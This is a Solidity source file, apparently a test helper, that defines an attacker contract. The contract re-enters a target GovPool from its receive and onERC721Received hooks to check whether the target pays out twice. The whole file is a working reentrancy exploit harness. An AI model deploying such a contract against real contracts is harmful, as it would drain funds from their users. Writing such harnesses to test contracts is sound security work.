// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

/// @notice Attacker (C1): a contract account that calls a target (a GovPool) and, whenever it is paid native
/// coin, calls the target again with `reentryData` (e.g. `claimRewards` for itself) while the target holds coin.
/// A target that pays before it books the payment pays again on every re-entry.
contract ReentrantReceiver {
    address public immutable target;
    bytes public reentryData;
    uint256 public maxReentries;
    uint256 public reentries;
    uint256 public acceptedReentries;
    uint256 public received;
    /// @notice Revert data of the last refused re-entry.
    bytes public lastRevert;

    error ReentrantReceiverCallFailed(bytes reason);

    constructor(address target_) {
        target = target_;
    }

    function setReentry(bytes calldata data, uint256 max) external {
        reentryData = data;
        maxReentries = max;
    }

    /// @notice Calls the target as this account; bubbles a revert.
    function call(bytes calldata data) external payable returns (bytes memory) {
        (bool ok, bytes memory ret) = target.call{value: msg.value}(data);
        if (!ok) revert ReentrantReceiverCallFailed(ret);
        return ret;
    }

    receive() external payable {
        received += msg.value;
        if (reentries >= maxReentries || target.balance == 0) return;
        ++reentries;
        (bool ok, bytes memory ret) = target.call(reentryData);
        if (ok) ++acceptedReentries;
        else lastRevert = ret;
    }

    /// @notice Accepts NFTs (a receiver of withdrawn NFTs re-enters the same way).
    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        if (reentries < maxReentries) {
            ++reentries;
            (bool ok, bytes memory ret) = target.call(reentryData);
            if (ok) ++acceptedReentries;
            else lastRevert = ret;
        }
        return this.onERC721Received.selector;
    }
}
